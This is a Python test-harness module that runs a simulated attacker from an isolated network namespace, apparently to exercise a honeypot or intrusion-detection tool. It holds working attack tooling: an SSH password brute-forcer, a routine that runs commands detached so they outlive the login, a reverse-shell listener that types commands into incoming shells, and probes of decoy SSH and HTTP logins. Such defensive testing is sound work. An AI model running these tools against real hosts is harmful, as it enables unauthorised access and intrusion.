"""The attacker: a network namespace of its own, and the tools it runs from there.

Tests create an ``Attacker`` (a namespace joined to this machine by a veth pair) and run this
module inside it (``ip netns exec NS python -m tests.harness.attacker ...``): real SSH password
guessing with paramiko, real reverse-shell listeners that type commands, real probes of the
decoys. Every tool prints its ground truth as JSON lines: what it did, and when.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[2]


def say(**fields: Any) -> None:
    print(json.dumps({"t": time.time(), **fields}), flush=True)


class Attacker:
    """A network namespace with an address of its own, reachable from this machine."""

    def __init__(self, index: int) -> None:
        tag = f"{os.getpid() % 10000}{index}"
        self.ns = f"vigil-atk-{tag}"
        self.host_if = f"vh{tag}"[:15]
        self.ns_if = f"va{tag}"[:15]
        subnet = 100 + (os.getpid() + index) % 100
        self.host_ip = f"10.213.{subnet}.1"
        self.ip = f"10.213.{subnet}.2"

    def __enter__(self) -> Attacker:
        def ip(*args: str) -> None:
            subprocess.run(["ip", *args], check=True, capture_output=True)

        ip("netns", "add", self.ns)
        try:
            ip("link", "add", self.host_if, "type", "veth", "peer", "name", self.ns_if)
            ip("link", "set", self.ns_if, "netns", self.ns)
            ip("addr", "add", f"{self.host_ip}/24", "dev", self.host_if)
            ip("link", "set", self.host_if, "up")
            ip("-n", self.ns, "addr", "add", f"{self.ip}/24", "dev", self.ns_if)
            ip("-n", self.ns, "link", "set", self.ns_if, "up")
            ip("-n", self.ns, "link", "set", "lo", "up")
        except BaseException:
            self.__exit__()
            raise
        return self

    def __exit__(self, *exc: object) -> None:
        subprocess.run(["ip", "link", "del", self.host_if], capture_output=True)
        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)

    def add_source(self, n: int) -> str:
        """Another address of the attacker (a new source for each run of a benchmark)."""
        address = self.ip.rsplit(".", 1)[0] + f".{10 + n % 240}"
        subprocess.run(["ip", "-n", self.ns, "addr", "add", f"{address}/24", "dev", self.ns_if],
                       check=True, capture_output=True)
        return address

    def command(self, *args: str) -> list[str]:
        """The command line that runs this module's ``args`` inside the namespace."""
        return ["ip", "netns", "exec", self.ns, sys.executable, "-m", "tests.harness.attacker",
                *args]

    def run(self, *args: str, timeout: float = 120) -> list[dict[str, Any]]:
        out = subprocess.run(self.command(*args), capture_output=True, text=True, timeout=timeout,
                             cwd=REPO)
        if out.returncode != 0:
            raise RuntimeError(f"attacker {args[0]} failed: {out.stderr[-2000:]}")
        return [json.loads(line) for line in out.stdout.splitlines() if line.startswith("{")]

    def spawn(self, *args: str) -> subprocess.Popen[str]:
        return subprocess.Popen(self.command(*args), stdout=subprocess.PIPE, stdin=subprocess.PIPE,
                                stderr=subprocess.DEVNULL, text=True, cwd=REPO,
                                start_new_session=True)


# --- tools, run inside the namespace ------------------------------------------------------


SOURCE: str | None = None  # the address tools connect from (--source)


def connect(host: str, port: int) -> socket.socket:
    source = (SOURCE, 0) if SOURCE else None
    return socket.create_connection((host, port), timeout=10, source_address=source)


def bruteforce(host: str, port: int, user: str, wordlist: list[str]) -> str | None:
    """Guess ``user``'s password over SSH; returns it, printing each attempt."""
    import paramiko

    for password in wordlist:
        client = paramiko.SSHClient()
        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            client.connect(host, port=port, username=user, password=password, timeout=10,
                           allow_agent=False, look_for_keys=False, banner_timeout=10,
                           sock=connect(host, port))
        except paramiko.AuthenticationException:
            say(action="ssh-guess", user=user, password=password, ok=False)
            continue
        finally:
            client.close()
        say(action="ssh-guess", user=user, password=password, ok=True)
        return password
    return None


def ssh_exec(host: str, port: int, user: str, password: str, commands: list[str]) -> None:
    """Log in and run each command detached (it outlives the session), like an attacker."""
    import paramiko

    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect(host, port=port, username=user, password=password, timeout=10,
                   allow_agent=False, look_for_keys=False, sock=connect(host, port))
    say(action="ssh-login", user=user)
    try:
        for command in commands:
            detached = f"setsid nohup sh -c {_quote(command)} >/dev/null 2>&1 < /dev/null &"
            _stdin, stdout, _stderr = client.exec_command(detached, timeout=20)
            stdout.channel.recv_exit_status()
            say(action="ssh-exec", command=command)
    finally:
        client.close()


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


def listen(port: int, count: int, mark: str, hold: float) -> None:
    """Accept ``count`` reverse shells; type ``id`` into each and print what came back."""
    server = socket.create_server(("0.0.0.0", port), backlog=16)
    say(action="listening", port=port)
    held: list[socket.socket] = []

    def serve(conn: socket.socket, peer: Any, n: int) -> None:
        say(action="shell-connected", conn=n, peer=peer[0])
        conn.settimeout(20)
        # the shell computes the token: an echoing terminal shows the command, not the token
        typed = f"id; echo {mark}-$(({n}+1000))"
        token = f"{mark}-{n + 1000}"
        conn.sendall(f"{typed}\n".encode())
        data = b""
        with contextlib.suppress(OSError):
            while token.encode() not in data and len(data) < 65536:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        say(action="shell-output", conn=n, output=data.decode(errors="replace")[-2000:],
            typed=typed)

    threads = []
    for n in range(count):
        conn, peer = server.accept()
        held.append(conn)
        thread = threading.Thread(target=serve, args=(conn, peer, n), daemon=True)
        thread.start()
        threads.append(thread)
    for thread in threads:
        thread.join(timeout=30)
    say(action="all-served", count=count)
    time.sleep(hold)
    for conn in held:
        with contextlib.suppress(OSError):
            conn.sendall(b"exit\n")
            conn.close()


def probe_ssh(host: str, port: int) -> None:
    with connect(host, port) as conn:
        banner = conn.recv(256).decode(errors="replace").strip()
        conn.sendall(b"SSH-2.0-Go\r\n")
        time.sleep(0.3)
    say(action="probe-ssh", port=port, banner=banner)


def probe_http(host: str, port: int, user: str, password: str) -> None:
    body = urllib.parse.urlencode({"username": user, "password": password}).encode()
    with connect(host, port) as conn:
        conn.sendall(f"POST /login HTTP/1.1\r\nHost: {host}\r\nContent-Type: "
                     f"application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
                     "Connection: close\r\n\r\n".encode() + body)
        answer = conn.recv(4096).decode(errors="replace").split("\r\n", 1)[0]
    say(action="probe-http", port=port, user=user, answer=answer)


def main() -> None:
    global SOURCE
    parser = argparse.ArgumentParser(prog="attacker")
    parser.add_argument("--source", help="connect from this address of the namespace")
    sub = parser.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("bruteforce")
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("user")
    p.add_argument("wordlist")
    p = sub.add_parser("ssh-exec")
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("user")
    p.add_argument("password")
    p.add_argument("commands", nargs="+")
    p = sub.add_parser("listen")
    p.add_argument("port", type=int)
    p.add_argument("count", type=int)
    p.add_argument("mark")
    p.add_argument("--hold", type=float, default=30)
    p = sub.add_parser("probe-ssh")
    p.add_argument("host")
    p.add_argument("port", type=int)
    p = sub.add_parser("probe-http")
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("user")
    p.add_argument("password")
    args = parser.parse_args()
    SOURCE = args.source
    if args.cmd == "bruteforce":
        words = Path(args.wordlist).read_text().split()
        if bruteforce(args.host, args.port, args.user, words) is None:
            sys.exit(1)
    elif args.cmd == "ssh-exec":
        ssh_exec(args.host, args.port, args.user, args.password, args.commands)
    elif args.cmd == "listen":
        listen(args.port, args.count, args.mark, args.hold)
    elif args.cmd == "probe-ssh":
        probe_ssh(args.host, args.port)
    elif args.cmd == "probe-http":
        probe_http(args.host, args.port, args.user, args.password)


if __name__ == "__main__":
    main()
